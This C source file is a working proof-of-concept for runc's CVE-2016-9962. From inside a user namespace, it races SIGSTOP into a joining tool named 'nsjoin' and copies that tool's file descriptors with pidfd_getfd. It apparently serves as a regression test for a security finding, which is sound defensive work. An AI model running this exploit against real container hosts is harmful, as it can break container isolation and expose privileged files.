/* steal-fds: a container's root taking the descriptors of a tool that joins
 * its user namespace (issue 12, finding 6; runc's CVE-2016-9962).
 *
 *   steal-fds SECONDS [COMM]
 *
 * Run as root of a user namespace (unshare -U -r steal-fds 20). For SECONDS,
 * or until SIGTERM, it watches /proc for processes whose comm is COMM
 * ("nsjoin"). Each one found is signalled with SIGSTOP until the kernel lets
 * it (which it does once the process's credentials are in our user
 * namespace), then, stopped, asked for its descriptors 3..64 with
 * pidfd_getfd, and continued. Every descriptor taken is printed as
 *   stolen PID FD TARGET
 * (TARGET: readlink of our copy), and at the end, and on each SIGUSR1 (the
 * counts so far, while it goes on watching), one line
 *   caught N stopped M stolen K
 * Exit status: 0 when nothing was stolen, 3 when something was, 2 when the
 * attack itself could not run. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#ifndef SYS_pidfd_open
# define SYS_pidfd_open 434
#endif
#ifndef SYS_pidfd_getfd
# define SYS_pidfd_getfd 438
#endif

#define SEEN_MAX 4096

static volatile sig_atomic_t stop_asked, report_asked;
static pid_t seen[SEEN_MAX];
static size_t seen_count;
static unsigned long caught, stopped, stolen;

static void on_term(int sig)
{
	(void) sig;
	stop_asked = 1;
}

static void on_usr1(int sig)
{
	(void) sig;
	report_asked = 1;
}

static void report(void)
{
	printf("caught %lu stopped %lu stolen %lu\n", caught, stopped, stolen);
	fflush(stdout);
}

static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double) ts.tv_sec + (double) ts.tv_nsec / 1e9;
}

static bool has_comm(pid_t pid, const char *comm)
{
	char path[64], buf[64];
	ssize_t len;
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/comm", (int) pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return false;
	len = read(fd, buf, sizeof(buf) - 1);
	close(fd);
	if (len <= 0)
		return false;
	buf[len] = '\0';
	buf[strcspn(buf, "\n")] = '\0';
	return strcmp(buf, comm) == 0;
}

/* The state letter of /proc/PID/stat, '?' when it is gone. */
static char state_of(pid_t pid)
{
	char path[64], buf[512], *paren;
	ssize_t len;
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/stat", (int) pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return '?';
	len = read(fd, buf, sizeof(buf) - 1);
	close(fd);
	if (len <= 0)
		return '?';
	buf[len] = '\0';
	paren = strrchr(buf, ')');
	return paren && paren[1] && paren[2] ? paren[2] : '?';
}

static bool already_seen(pid_t pid)
{
	for (size_t i = 0; i < seen_count; i++)
		if (seen[i] == pid)
			return true;
	if (seen_count < SEEN_MAX)
		seen[seen_count++] = pid;
	return false;
}

/* Stopped, the process cannot close what it holds while we look. */
static void take_descriptors(pid_t pid)
{
	int pidfd = (int) syscall(SYS_pidfd_open, pid, 0);

	if (pidfd < 0)
		return;
	for (int fd = 3; fd <= 64; fd++) {
		char path[64], target[4096];
		ssize_t len;
		int ours = (int) syscall(SYS_pidfd_getfd, pidfd, fd, 0);

		if (ours < 0)
			continue;
		snprintf(path, sizeof(path), "/proc/self/fd/%d", ours);
		len = readlink(path, target, sizeof(target) - 1);
		target[len < 0 ? 0 : len] = '\0';
		printf("stolen %d %d %s\n", (int) pid, fd, target);
		fflush(stdout);
		stolen++;
		close(ours);
	}
	close(pidfd);
}

/* Until the kernel lets us signal PID (its credentials moved into our user
 * namespace) or it is gone: a tight loop, as the window is short. */
static void attack(pid_t pid, const char *comm)
{
	double give_up = now() + 2;

	caught++;
	for (;;) {
		if (kill(pid, SIGSTOP) == 0)
			break;
		if (errno == ESRCH || now() > give_up || stop_asked)
			return;
	}
	/* the stop lands when the process next returns to user space */
	for (int i = 0; i < 20000 && state_of(pid) != 'T'; i++)
		if (state_of(pid) == '?' || state_of(pid) == 'Z')
			break;
	if (state_of(pid) == 'T' && has_comm(pid, comm)) {
		stopped++;
		take_descriptors(pid);
	}
	kill(pid, SIGCONT);
}

int main(int argc, char **argv)
{
	const char *comm = argc > 2 ? argv[2] : "nsjoin";
	double deadline;

	if (argc < 2 || atoi(argv[1]) <= 0) {
		fprintf(stderr, "usage: steal-fds SECONDS [COMM]\n");
		return 2;
	}
	signal(SIGTERM, on_term);
	signal(SIGUSR1, on_usr1);
	deadline = now() + atoi(argv[1]);
	printf("ready %d\n", (int) getpid());
	fflush(stdout);

	while (!stop_asked && now() < deadline) {
		DIR *proc = opendir("/proc");
		struct dirent *e;

		if (!proc) {
			perror("/proc");
			return 2;
		}
		while ((e = readdir(proc)) && !stop_asked) {
			pid_t pid = (pid_t) atoi(e->d_name);

			if (pid <= 1 || pid == getpid() || !has_comm(pid, comm) || already_seen(pid))
				continue;
			attack(pid, comm);
		}
		closedir(proc);
		if (report_asked) {
			report_asked = 0;
			report();
		}
	}
	report();
	return stolen ? 3 : 0;
}
